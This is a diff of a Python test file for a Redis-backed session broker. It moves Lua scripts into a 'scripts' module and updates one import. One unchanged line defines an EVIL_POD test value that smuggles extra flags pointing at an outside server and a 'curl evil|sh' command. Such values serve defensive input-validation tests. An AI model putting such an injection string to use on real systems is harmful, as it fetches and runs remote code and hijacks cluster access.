@@ -15,7 +15,7 @@ import pytest
 import redis
 
 from breakpod_broker import events as broker_events
-from breakpod_broker import keys, sessions
+from breakpod_broker import keys, scripts
 from tests.brokerkit import ADMIN, AGENT, AGENT2, VIEWER, post_events, register
 
 EVIL_POD = "x --server=https://203.0.113.9 --insecure-skip-tls-verify=true; curl evil|sh #"
@@ -233,7 +233,7 @@ def test_bad_cursors_and_corrupt_token_records_get_4xx(broker, redis_url):
         assert c.get("/v1/events", params={"since": top}).status_code == 422
         assert c.get("/v1/events", params={"since": "1-2"}).status_code == 200
     with redis.Redis.from_url(redis_url) as r:
-        from breakpod_broker.auth import digest
+        from breakpod_broker.tokens import digest
 
         for token, record in [("corrupt-token-1", "{not json"), ("corrupt-token-2", '{"x": 1}')]:
             r.hset(keys.TOKENS, digest(token), record)
@@ -285,11 +285,11 @@ def test_ingest_never_recreates_an_expired_session_hash(broker, redis_url):
     """What INGEST_LUA does when another replica's view of the session is stale."""
     with redis.Redis.from_url(redis_url, decode_responses=True) as r:
         args = [100, 100, 60, 3600, keys.seen("gone", ""), 1, "e1", "{}", 1, "parked", "bp", "", ""]
-        reply = r.eval(broker_events.INGEST_LUA, 3, *broker_events._lua_keys("gone"), *args)
+        reply = r.eval(scripts.INGEST_LUA, 3, *broker_events._lua_keys("gone"), *args)
         assert reply and not r.exists(keys.session("gone"))
         r.hset(keys.session("live"), mapping={"state": "running"})
         args[4], args[6] = keys.seen("live", ""), "e2"
-        r.eval(broker_events.INGEST_LUA, 3, *broker_events._lua_keys("live"), *args)
+        r.eval(scripts.INGEST_LUA, 3, *broker_events._lua_keys("live"), *args)
         assert r.hget(keys.session("live"), "state") == "parked"
         assert r.ttl(keys.session("live")) > 0
 
@@ -300,7 +300,7 @@ def test_pruning_keeps_a_session_that_came_back_meanwhile(broker, redis_url):
         r.zadd(keys.SESSIONS, {"back": 1, "gone": 1})
         r.hset(keys.session("back"), "state", "running")
         ids = ["back", "gone"]
-        r.eval(sessions.PRUNE_LUA, 2, *map(keys.session, ids), *ids, keys.SESSIONS)
+        r.eval(scripts.PRUNE_LUA, 2, *map(keys.session, ids), *ids, keys.SESSIONS)
         assert r.zrange(keys.SESSIONS, 0, -1) == ["back"]
 
 
